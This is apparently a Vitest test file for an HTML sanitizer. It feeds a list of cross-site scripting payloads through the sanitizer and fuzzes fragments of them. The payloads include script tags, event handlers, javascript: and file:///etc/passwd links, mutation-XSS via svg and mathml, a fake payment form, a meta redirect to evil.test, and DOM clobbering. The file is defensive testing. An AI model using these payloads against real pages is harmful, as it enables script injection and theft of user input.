// @vitest-environment jsdom
import fc from 'fast-check'
import { afterEach, describe, expect, it } from 'vitest'
import { cleanHtml } from '../../../src/ui/html/clean-html.ts'
import { fuzzRuns } from '../../setup/fuzz-runs.ts'

/** The text as rendered in the page. */
function shown(html: string): HTMLElement {
  const place = document.createElement('div')
  place.innerHTML = String(cleanHtml(html))
  document.body.append(place)
  return place
}

afterEach(() => document.body.replaceChildren())

/** Elements and attributes with an effect of their own; none may remain. */
const ACTS =
  'script, style, link, meta, base, iframe, frame, frameset, object, embed, applet, portal, svg, math, template, ' +
  'form, input, button, select, option, textarea, fieldset, label, dialog, audio, video, source, track, map, area, ' +
  'marquee, noscript, canvas, slot, picture, [style], [class], [id], [name], [popover], [tabindex], [autofocus], ' +
  '[contenteditable], [srcdoc], [srcset], [ping], [background], [role], [accesskey], [is], [slot], [part], ' +
  '[formaction], [http-equiv], [download], [usemap], [ismap], [crossorigin], [hidden], [inert]'

const SAFE_ADDRESS = /^(?:https?:|mailto:|tel:|(?![a-z][a-z\d+.-]*:))/i

function expectHarmless(html: string): void {
  const place = shown(html)
  expect(place.querySelector(ACTS)).toBeNull()
  for (const element of place.querySelectorAll('*')) {
    const odd = element.getAttributeNames().filter((name) => /^on|^data-|^aria-|:/.test(name))
    expect(odd).toEqual([])
  }
  for (const link of place.querySelectorAll('a[href]')) {
    expect(link.getAttribute('href')).toMatch(SAFE_ADDRESS)
    expect((link as HTMLAnchorElement).protocol).toMatch(/^(?:https?|mailto|tel):$/)
    expect([link.getAttribute('target'), link.getAttribute('rel')]).toEqual(['_blank', 'noopener noreferrer'])
  }
  place.remove()
}

const attacks: Record<string, string> = {
  'a script': '<script>evil()</script>',
  'a script within a word': '<scr<script>ipt>evil()</scr</script>ipt>',
  'an event handler': '<img src=x onerror=evil()><p onclick="evil()" onpointerenter=evil()>x</p>',
  'a handler behind a slash': '<img/src=x/onerror=evil()>',
  'a handler of an animation': '<details open ontoggle=evil()><summary>x</summary></details>',
  'a javascript link': '<a href="javascript:evil()">x</a>',
  'a javascript link with odd letters': '<a href="&#1;JaVa\tScr\nipt&colon;evil()">x</a>',
  'a data link': '<a href="data:text/html,<script>evil()</script>">x</a>',
  'a vbscript and a file link': '<a href="vbscript:evil()">x</a><a href="file:///etc/passwd">x</a>',
  'a link of another program':
    '<a href="ms-word:ofe|u|https://evil.test">x</a><a href="intent://x#Intent;end">x</a>',
  'a link that pings and downloads': '<a href="https://evil.test" ping="/x" download="y">x</a>',
  'a frame': '<iframe srcdoc="<script>evil()</script>"></iframe><object data="x"></object><embed src="x">',
  'a style': '<style>*{display:none}</style><p style="position:fixed;inset:0;z-index:9999">x</p>',
  'styles of the shop': '<div class="dialog backdrop" id="main" slot="x" part="y">x</div>',
  'a form':
    '<form action="https://evil.test"><input name=otp autofocus><button formaction=x>Pay</button></form>',
  'a meta refresh':
    '<meta http-equiv="refresh" content="0;url=https://evil.test"><base href="https://evil.test">',
  'an svg':
    '<svg onload=evil()><a xlink:href="javascript:evil()"><text>x</text></a><animate onbegin=evil() /></svg>',
  'an svg that is left again': '<svg></p><style><a id="</style><img src=1 onerror=evil()>">',
  mathml:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;">',
  'a template':
    '<template><script>evil()</script></template><noscript><p title="</noscript><img src=x onerror=evil()>">',
  'a dialog':
    '<dialog open>Log in</dialog><div popover=manual id=p>x</div><button popovertarget=p>x</button>',
  'what shadows the shop’s own names':
    '<img name=cookie><a id=kiosk href=x></a><form id=location><input name=href></form>',
  'what only some hear':
    '<div role="alert" aria-live="assertive" aria-modal="true" tabindex="1" accesskey="e">x</div>',
  'a moving text and a sound':
    '<marquee onstart=evil()>x</marquee><audio src=x autoplay onplay=evil()></audio>',
  'a picture’s map':
    '<img src=x usemap="#m" ismap><map name=m><area href="javascript:evil()" shape=default></map>',
  'another language’s tag':
    '<x-evil is="y" contenteditable>x</x-evil><a xlink:href="javascript:evil()">x</a>',
}

describe('a text of a provider', () => {
  it.each(Object.entries(attacks))('with %s does nothing', (_what, html) => {
    expectHarmless(html)
    expectHarmless(`<table><tr><td>${html}</table>`)
    expectHarmless(`<p title="'>${html}`)
  })

  it('does nothing either where pieces of all of them are thrown together', () => {
    const pieces = fc.oneof(
      fc.constantFrom(...Object.values(attacks).flatMap((html) => html.split(/(?=[<> ="'/])/))),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '\0',
        '</p>',
        '&lt;',
        '&#x6a;',
        '`',
      ),
      fc.string({ maxLength: 4 }),
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 25 }), (parts) => expectHarmless(parts.join(''))),
      { numRuns: fuzzRuns(80) },
    )
  })

  it('keeps what texts are made of', () => {
    const html =
      '<h2 lang="hi">नियम</h2><p>One <strong>two</strong><br><a href="tel:+911" title="t">three</a></p>' +
      '<ol start="3"><li>four</li></ol><table><tbody><tr><td colspan="2">five</td></tr></tbody></table>' +
      '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="six" width="2" height="1">'
    const place = shown(html)
    expect(place.textContent).toBe('नियमOne twothreefourfive')
    expect(place.querySelector('[lang=hi], ol[start="3"] li, td[colspan="2"]')).not.toBeNull()
    expect(place.querySelector('a')?.getAttribute('href')).toBe('tel:+911')
    expect(place.querySelector('img')?.getAttribute('src')).toMatch(/^data:image\/gif/)
  })
})
